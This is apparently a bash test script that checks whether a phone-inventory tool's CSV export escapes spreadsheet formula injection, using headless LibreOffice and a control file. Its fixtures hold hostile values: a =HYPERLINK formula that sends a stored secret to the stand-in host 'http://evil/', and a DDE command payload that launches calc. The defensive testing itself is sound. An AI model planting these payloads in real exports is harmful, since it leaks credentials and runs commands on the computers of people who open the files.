#!/usr/bin/env bash
# Spreadsheet formula injection (docs/inventory-csv.md, "Spreadsheets"):
# values that start like a formula (=, +, -, @) are data through the API and
# the CSV import, stored as given; the export writes them with a leading '
# (OWASP's rule) so that a spreadsheet shows text; phone numbers keep a
# leading + followed by digits; importing the export gives the same values
# back. The exports (with and without --secrets) are opened with headless
# LibreOffice (soffice --convert-to fods) and every cell compared: no formula,
# the text as written. A control file holding the raw values shows the check
# can fail: LibreOffice evaluates its =HYPERLINK and the link carries a secret.

source "$(dirname "$0")/lib.sh"

HERE="$(dirname "$0")"
MAC=00:15:65:aa:00:01
PHONE_COLUMNS=(did twinning_number external_callerid call_forward)
LABEL=""  # =HYPERLINK("http://evil/?"&<the secret of row 2>), once the secret column is known

# The hostile values, by extension field, as the API is given them.
declare -A EXT_2001=(
    [callerid_name]='=1+1'
    [user]='@SUM(9)'
    [notes]="'s-Hertogenbosch"
    [class_of_service]="+cmd|' /C calc'!A0"
    [phone_group]='-2+3'
    [did]='+4930123456'
    [twinning_number]='+1*2'
    [external_callerid]='+4930999'
    [call_forward]='+4930777'
    [secret]='PlainSecret2001'
)
declare -A EXT_2002=(
    [callerid_name]="'=1+1"
    [notes]="''@x"
    [user]='-abcdefgh1'
    [secret]='=1+2+3abcdef'
)

# json_object ASSOC_NAME EXTRA_JSON: the array as a JSON object, merged with EXTRA_JSON.
json_object() {
    local -n values=$1
    local args=() k
    for k in "${!values[@]}"; do args+=(--arg "$k" "${values[$k]}"); done
    jq -cn "${args[@]}" "\$ARGS.named + $2"
}

# soffice_convert OUTDIR FILE...: every FILE to a flat ODS in OUTDIR, with a
# private profile (so it runs as root and next to a user's own LibreOffice),
# in at most 120 s.
soffice_convert() {
    local out=$1; shift
    timeout 120 soffice --headless --norestore -env:UserInstallation="file://$WORK/lo-profile" \
        --convert-to fods --outdir "$out" "$@" >"$WORK/soffice.log" 2>&1
}

# The values go in as given, through the API, by an installer and an admin.
test_api_stores_as_given() {
    local installer column
    # The attacker's link points at the secret of the first row (the
    # device's, with 2001 on its first line), as in the issue.
    # shellcheck disable=SC2046
    run export - --secrets $(store_args "$DATA")
    column=$(head -1 <<<"$OUT" | tr -d '\r' | tr ',' '\n' | grep -nx secret | cut -d: -f1)
    [[ "$column" =~ ^[0-9]+$ && "$column" -le 26 ]] && ok || bad "the --secrets header should have a secret column: '$OUT'"
    LABEL="=HYPERLINK(\"http://evil/?\"&$(printf "\\$(printf '%03o' $((64 + column)))")2)"
    # shellcheck disable=SC2046
    run token create --role installer $(store_args "$DATA")
    expect_rc 0 "token create --role installer"
    installer=$OUT
    api POST /devices "$(jq -cn --arg mac $MAC --arg lbl "$LABEL" \
        '{"mac": $mac, "make": "Yealink", "model": "T46U", "label": $lbl, "serial": "@SUM(1)"}')" "$installer"
    expect_status 201 "an installer adds a device whose label is a formula"
    expect_json .label "$LABEL" "the label is stored as the installer gave it"
    api POST /extensions "$(json_object EXT_2001 "{extension: \"2001\", mac: \"$MAC\", phone_reg: 1}")"
    expect_status 201 "extension 2001 with formula-like values"
    local k
    for k in "${!EXT_2001[@]}"; do
        expect_json ".$k" "${EXT_2001[$k]}" "2001's $k is stored as given"
    done
    api POST /extensions "$(json_object EXT_2002 '{extension: "2002", device_type: "VIRTUAL"}')"
    expect_status 201 "extension 2002 with values that start with a quote"
    api PUT /extensions/2001/buttons '[{"index":1,"type":"line"},
        {"index":2,"type":"speed_dial","value":"5551234","label":"=HYPERLINK(\"http://evil/\")"}]'
    expect_status 200 "a button label that is a formula"
}

# export_both NAME: the CLI and API exports, without and with secrets, as
# $WORK/NAME.csv and $WORK/NAME-secrets.csv (the CLI's and the API's must agree).
export_both() {
    local name=$1 flag suffix
    for suffix in "" -secrets; do
        flag=()
        [[ -n "$suffix" ]] && flag=(--secrets)
        # shellcheck disable=SC2046
        run export "$WORK/$name$suffix.csv" "${flag[@]}" $(store_args "$DATA")
        expect_rc 0 "export $name$suffix"
        STATUS=$(timeout 30 curl -s --max-time 20 -o "$WORK/$name$suffix.api.csv" -w '%{http_code}' \
            -H "Authorization: Bearer $TOKEN" "http://127.0.0.1:$ADMIN_PORT/api/v1/exports${suffix:+?secrets=true}")
        expect_status 200 "GET /exports${suffix:+?secrets=true}"
        cmp -s "$WORK/$name$suffix.csv" "$WORK/$name$suffix.api.csv" && ok ||
            bad "$name$suffix: the CLI and API exports differ"
    done
}

# What the export writes, byte for byte where it matters.
test_export_bytes() {
    export_both export
    local e="$WORK/export-secrets.csv"
    grep -qF "\"'=HYPERLINK(\"\"http://evil/?\"\"&" "$e" && ok || bad "the label is written as '=HYPERLINK(..., quoted"
    grep -qF ",'=1+1," "$e" && ok || bad "2001's caller ID is written '=1+1"
    grep -qF ",''=1+1," "$e" && ok || bad "2002's caller ID ('=1+1) gets one more quote: ''=1+1"
    grep -qF ",'s-Hertogenbosch," "$e" && ok || bad "'s-Hertogenbosch is written as it is"
    grep -qF ",+4930123456,'+1*2,+4930999,+4930777," "$e" && ok ||
        bad "phone numbers keep +digits as they are; +1*2 is escaped: $(grep 2001 "$e")"
    grep -qF ",'=1+2+3abcdef" "$e" && ok || bad "the secret is escaped in the --secrets export"
    grep -qF ",'-abcdefgh1," "$e" && ok || bad "a user starting with - is escaped"
    grep -qF ",'@SUM(1)," "$e" && ok || bad "the serial @SUM(1) is escaped"
    # No cell of either export starts a formula, but the phone numbers.
    local f
    for f in "$WORK/export.csv" "$e"; do
        python3 - "$f" "${PHONE_COLUMNS[@]}" >"$WORK/starts.txt" <<'EOF'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
for r, row in enumerate(rows[1:], 2):
    for c, cell in enumerate(row):
        phone = rows[0][c] in sys.argv[2:] and re.fullmatch(r"\+[0-9]+", cell)
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not phone:
            print("row %d %s: %r" % (r, rows[0][c], cell))
EOF
        [[ ! -s "$WORK/starts.txt" ]] && ok || bad "$(basename "$f"): cells that start a formula: $(cat "$WORK/starts.txt")"
    done
}

# LibreOffice opens the exports: no formula, every cell as written.
test_libreoffice() {
    if ! command -v soffice >/dev/null; then
        bad "soffice is not installed (deploy/install-deps.sh --test installs libreoffice-calc-nogui)"
        return
    fi
    # The control: what the export wrote before the rule, the values as stored.
    python3 - "$WORK/export-secrets.csv" "$WORK/control.csv" <<'EOF'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
unescape = lambda c: c[1:] if re.match(r"'+[=+\-@\t\r]", c) else c
with open(sys.argv[2], "w", newline="", encoding="utf-8") as f:
    csv.writer(f, lineterminator="\r\n").writerows([rows[0]] + [[unescape(c) for c in r] for r in rows[1:]])
EOF
    local start=$SECONDS
    mkdir -p "$WORK/lo"
    soffice_convert "$WORK/lo" "$WORK/export.csv" "$WORK/export-secrets.csv" "$WORK/control.csv"
    local rc=$?
    [[ $rc == 0 && -s "$WORK/lo/export.fods" && -s "$WORK/lo/export-secrets.fods" && -s "$WORK/lo/control.fods" ]] &&
        ok || bad "soffice --convert-to fods failed (exit $rc): $(tail -5 "$WORK/soffice.log")"
    echo "LibreOffice converted three files in $((SECONDS - start)) s"
    local f
    for f in export export-secrets; do
        if python3 "$HERE/fods_cells.py" "$WORK/$f.csv" "$WORK/lo/$f.fods" "${PHONE_COLUMNS[@]}" >"$WORK/cells.txt"; then
            ok
        else
            bad "$f.csv in LibreOffice: $(head -20 "$WORK/cells.txt")"
        fi
        echo "$f.csv in LibreOffice: $(tail -1 "$WORK/cells.txt")"
    done
    # The phone numbers are numbers there, with their digits.
    grep -q 'office:value-type="float" office:value="4930123456"' "$WORK/lo/export.fods" && ok ||
        bad "+4930123456 should read as the number 4930123456 in LibreOffice"
    # Test validity: the same sheet without the quotes runs the attacker's formula.
    local formulas
    formulas=$(python3 "$HERE/fods_cells.py" --count-formulas "$WORK/lo/control.fods")
    [[ "$formulas" -ge 2 ]] && ok || bad "the control file should hold live formulas in LibreOffice, it has '$formulas'"
    grep -qF "http://evil/?${EXT_2001[secret]}" "$WORK/lo/control.fods" && ok ||
        bad "the control's =HYPERLINK should carry 2001's secret: the check would not see the attack"
    if python3 "$HERE/fods_cells.py" "$WORK/control.csv" "$WORK/lo/control.fods" "${PHONE_COLUMNS[@]}" >/dev/null; then
        bad "fods_cells.py passes the control file: it cannot fail"
    else ok; fi
}

# export -> import into an empty store -> the same values, and the same bytes.
test_round_trip() {
    local fresh="$WORK/fresh"
    mkdir -p "$fresh"
    # shellcheck disable=SC2046
    run import "$WORK/export-secrets.csv" $(store_args "$fresh")
    expect_rc 0 "import the --secrets export into an empty store"
    local cols="extension, callerid_name, user, notes, class_of_service, phone_group, did, twinning_number,
        external_callerid, call_forward, secret"
    local a b
    a=$(sqlite3 "$DATA/store.db" "SELECT $cols FROM extensions ORDER BY extension")
    b=$(sqlite3 "$fresh/store.db" "SELECT $cols FROM extensions ORDER BY extension")
    [[ -n "$a" && "$a" == "$b" ]] && ok || bad "the extensions after a round trip differ: '$a' vs '$b'"
    a=$(sqlite3 "$DATA/store.db" "SELECT mac, label, serial FROM devices ORDER BY mac")
    b=$(sqlite3 "$fresh/store.db" "SELECT mac, label, serial FROM devices ORDER BY mac")
    [[ -n "$a" && "$a" == "$b" ]] && ok || bad "the devices after a round trip differ: '$a' vs '$b'"
    [[ $(sqlite3 "$fresh/store.db" "SELECT label FROM devices") == "$LABEL" ]] && ok ||
        bad "the label comes back without the quote"
    # shellcheck disable=SC2046
    run export "$WORK/again-secrets.csv" --secrets $(store_args "$fresh")
    cmp -s "$WORK/export-secrets.csv" "$WORK/again-secrets.csv" && ok || bad "export -> import -> export differs"
    # Re-importing the export over its own store (API) changes nothing: no quote is taken for a change.
    : >"$WORK/body"
    STATUS=$(timeout 30 curl -s --max-time 20 -o "$WORK/body" -w '%{http_code}' -X POST -H "Authorization: Bearer $TOKEN" \
        -H 'Content-Type: text/csv' --data-binary "@$WORK/export-secrets.csv" "http://127.0.0.1:$ADMIN_PORT/api/v1/imports")
    BODY=$(cat "$WORK/body")
    expect_status 200 "POST /imports of the --secrets export"
    expect_json '.message | test("nothing to change")' true "re-importing the export changes nothing"
}

# A file written by hand: only a quote before a formula character comes off.
test_import_by_hand() {
    local dir="$WORK/by-hand"
    mkdir -p "$dir"
    printf '%s\r\n' 'mac,label,serial,extension,callerid_name,notes,did,user' \
        "00:15:65:aa:00:09,'s-Hertogenbosch,'=1+1,3001,'=SUM(1),''=x,'+4930,'Alice" \
        ",,,3002,=typed as is,'@x,+4931,-" >"$WORK/by-hand.csv"
    # shellcheck disable=SC2046
    run import "$WORK/by-hand.csv" $(store_args "$dir")
    expect_rc 0 "import a hand-written file"
    [[ $(sqlite3 -separator '|' "$dir/store.db" "SELECT label, serial FROM devices") == "'s-Hertogenbosch|=1+1" ]] && ok ||
        bad "label and serial: $(sqlite3 -separator '|' "$dir/store.db" "SELECT label, serial FROM devices")"
    [[ $(sqlite3 -separator '|' "$dir/store.db" "SELECT callerid_name, notes, did, user FROM extensions WHERE extension = '3001'") == \
        "=SUM(1)|'=x|+4930|'Alice" ]] && ok ||
        bad "3001: $(sqlite3 -separator '|' "$dir/store.db" "SELECT callerid_name, notes, did, user FROM extensions WHERE extension = '3001'")"
    [[ $(sqlite3 -separator '|' "$dir/store.db" "SELECT callerid_name, notes, did, user FROM extensions WHERE extension = '3002'") == \
        "=typed as is|@x|+4931|-" ]] && ok ||
        bad "3002: $(sqlite3 -separator '|' "$dir/store.db" "SELECT callerid_name, notes, did, user FROM extensions WHERE extension = '3002'")"
}

start_server
test_api_stores_as_given
test_export_bytes
test_libreoffice
test_round_trip
test_import_by_hand
stop_server
finish
